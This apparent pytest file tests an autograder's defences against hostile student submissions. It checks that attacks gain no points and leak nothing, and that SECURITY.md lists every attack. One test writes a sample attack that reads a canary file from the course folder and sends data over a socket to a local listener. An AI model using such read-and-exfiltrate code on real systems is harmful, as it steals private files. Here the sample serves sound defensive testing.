"""Hostile submissions gain no points, learn nothing hidden, and harm no other submission."""

import os

import pytest
from support.tiny import REPOSITORY

from autograder.audit.attack_report import BEGIN, END
from autograder.audit.attack_run import attacks_of, try_attacks

WEEKS = sorted(
    path.parent.name for path in (REPOSITORY / "tests" / "submissions").glob("*/attacks/")
)


def test_the_fast_attacks_on_week_1_hold(repository, needs_sandbox):
    """`make audit` tries the others, and those on the other weeks."""
    assignment = repository.assignment("week1_mlp")
    attacks = [attack for attack in attacks_of(assignment) if attack.fast]
    assert len(attacks) >= 20
    alone = "PYTEST_XDIST_WORKER" not in os.environ
    judgments = try_attacks(assignment, attacks, (os.cpu_count() or 1) if alone else 1, True)
    problems = {j.attack.name: j.problems for j in judgments if not j.held}
    assert problems == {}


@pytest.mark.parametrize("week", WEEKS)
def test_security_lists_exactly_the_attacks_that_exist(repository, week):
    text = (repository.root / "SECURITY.md").read_text(encoding="utf-8")
    _, _, rest = text.partition(BEGIN.format(week=week))
    table = rest.partition(END.format(week=week))[0].strip().splitlines()
    listed = [line.split("|")[1].strip(" `") for line in table[2:]]
    assert listed == [attack.name for attack in attacks_of(repository.assignment(week))]


def test_without_a_sandbox_a_leak_and_harm_are_found(repository, tmp_path):
    """The judge sees what an attack does where nothing prevents it."""
    assignment = repository.assignment("week1_mlp")
    folder = tmp_path / "week1_mlp" / "attacks"
    folder.mkdir(parents=True)
    (folder / "reads_and_tells.py").write_text(
        "# attack: x\n# class: leak\n# base: stub\n# expect: no more points than base\n"
        'print(open("@COURSE@/canary.txt").read())\n'
        "import socket\n"
        's = socket.create_connection(("127.0.0.1", int("@TCP@")))\ns.send(b"@NAME@")\n'
    )
    (judgment,) = try_attacks(assignment, attacks_of(assignment, tmp_path), 1, sandboxed=False)
    assert judgment.verdict == "LEAKED"
    assert any("the course's folder is in" in line for line in judgment.problems)
    assert "the listener TCP heard it" in judgment.problems
